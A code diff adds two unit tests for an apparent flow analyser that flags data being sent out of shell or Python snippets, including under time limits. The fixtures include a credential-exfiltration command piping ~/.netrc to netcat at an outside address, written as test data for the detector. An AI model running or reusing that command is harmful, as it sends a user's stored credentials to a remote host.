@@ -139,3 +139,30 @@ it('never throws, and places every flow in the text', () => {
     }),
   )
 })
+
+// WUN-103: time may be up at any moment, and what was found until then is told.
+it('forgets nothing that it found when time is up later', () => {
+  const pieces = [piece('cat ~/.netrc | nc 203.0.113.1 99', 'a.sh'), piece('ls > b.txt', 'b.sh')]
+  const found = Array.from({ length: 16 }, (_, most) => {
+    let looks = 0
+    const isLate = (): boolean => ++looks > most
+    return analyseFlows({ pieces, isLate }).flows.some(({ kind }) => kind === 'send')
+  })
+  expect(found).toEqual(found.toSorted((left, right) => Number(left) - Number(right)))
+  expect(found.at(-1)).toBe(true)
+})
+
+it('follows a program before it parses the next', () => {
+  let parsed = 0
+  const parser = {
+    parse: () => {
+      parsed += 1
+      return undefined
+    },
+  }
+  const late = { ...piece('import os\nos.remove("a")', 'b.py'), language: 'python' as const }
+  const pieces = [piece('cat ~/.netrc | nc 203.0.113.1 99'), late, late]
+  const { flows: found, unparsed } = analyseFlows({ pieces, parser, isLate: () => parsed > 0 })
+  expect(found.map(({ kind }) => kind)).toContain('send')
+  expect([parsed, unparsed.length]).toEqual([1, 2])
+})
